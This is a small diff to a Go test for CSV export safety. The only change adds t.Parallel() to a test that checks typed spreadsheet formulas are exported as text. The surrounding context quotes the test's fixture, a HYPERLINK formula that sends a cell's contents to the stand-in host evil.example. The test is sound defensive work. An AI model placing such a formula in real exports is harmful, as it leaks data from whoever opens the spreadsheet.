@@ -21,6 +21,7 @@ const formula = `=HYPERLINK("http://evil.example/?x="&A1,"Open your feedback")`
 // was, where a spreadsheet runs it as a formula. Both exports of a
 // student's sessions now carry it as text.
 func TestCSVExportsCarryTypedFormulasAsText(t *testing.T) {
+	t.Parallel()
 	storetest.Each(t, func(t *testing.T, db *store.DB) {
 		app := newTestApp(t, db, nil)
 		if _, err := app.auth.CreateUser(t.Context(), "Ana Lee", "ana@example.com", pw, auth.RoleUser); err != nil {
